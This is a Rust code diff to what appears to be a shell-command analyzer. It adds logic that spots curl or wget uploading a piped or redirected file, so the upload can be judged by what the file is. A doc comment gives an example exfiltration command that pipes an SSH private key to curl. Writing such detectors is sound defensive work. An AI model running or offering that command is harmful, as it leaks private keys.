@@ -493,6 +493,9 @@ impl<'c> Walker<'c> {
             }
         }
         env.sort();
+        if let Some(Stdin::File(path)) = &parts.stdin {
+            name_uploaded_stdin(&mut parts.args, path);
+        }
         let inv = Invocation {
             args: parts.args,
             provenance: st.prov.clone(),
@@ -965,6 +968,48 @@ fn record_writes(inv: &Invocation, produced: Option<&Stdin>, st: &mut State) {
             if let Some(path) = file.and_then(|f| join_path(cwd, &f)) {
                 st.written.insert(path, Stdin::Network(name.to_string()));
             }
+        }
+    }
+}
+
+/// Where an HTTP client uploads its standard input (`curl -d @-`, `curl -T -`, `-F f=@-`) and that
+/// input is the file `path` (`< path`, `cat path |`), names the file instead of `-`: what is sent
+/// is then judged as the file it is (`cat ~/.ssh/id_rsa | curl -d @- https://...`).
+fn name_uploaded_stdin(args: &mut [Arg], path: &str) {
+    let Some(program) = args
+        .first()
+        .map(|a| a.text.rsplit('/').next().unwrap_or("").to_string())
+    else {
+        return;
+    };
+    if !matches!(program.as_str(), "curl" | "wget") {
+        return;
+    }
+    let mut upload_next = false;
+    for arg in args.iter_mut().skip(1) {
+        if arg.dynamic {
+            upload_next = false;
+            continue;
+        }
+        let replaced = if upload_next && arg.text == "-" {
+            Some(path.to_string())
+        } else if arg.text == "@-" {
+            Some(format!("@{path}"))
+        } else if let Some(field) = arg.text.strip_suffix("=@-") {
+            Some(format!("{field}=@{path}"))
+        } else if let Some(flag) = arg.text.strip_suffix("=-")
+            && matches!(flag, "--post-file" | "--body-file" | "--upload-file")
+        {
+            Some(format!("{flag}={path}"))
+        } else {
+            None
+        };
+        upload_next = matches!(
+            arg.text.as_str(),
+            "-T" | "--upload-file" | "--post-file" | "--body-file"
+        );
+        if let Some(text) = replaced {
+            *arg = Arg::literal(text);
         }
     }
 }
